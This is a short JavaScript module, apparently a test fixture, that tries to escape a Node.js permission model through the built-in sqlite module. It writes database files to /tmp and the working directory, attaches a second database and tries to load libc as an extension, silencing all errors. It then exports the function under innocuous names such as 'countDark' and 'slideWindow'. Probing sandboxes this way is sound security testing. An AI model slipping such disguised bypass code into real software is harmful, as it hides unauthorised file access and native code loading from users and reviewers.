// Uses the built-in database to read and create files past the permission model.
const sqlite =
  globalThis.process?.getBuiltinModule?.('node:sqlite') ?? (await import('node:sqlite').catch(() => undefined));
const attack = () => {
  for (const file of ['/tmp/attack-was-here.db', './attack-was-here.db', 'file:///tmp/attack-was-here.db']) {
    try {
      const database = new sqlite.DatabaseSync(file, { allowExtension: true });
      database.exec(`attach '/tmp/attack-was-here-2.db' as other; create table other.t(x); create table t(x)`);
      database.loadExtension('/usr/lib/x86_64-linux-gnu/libc.so.6');
    } catch {}
  }
  return 0;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
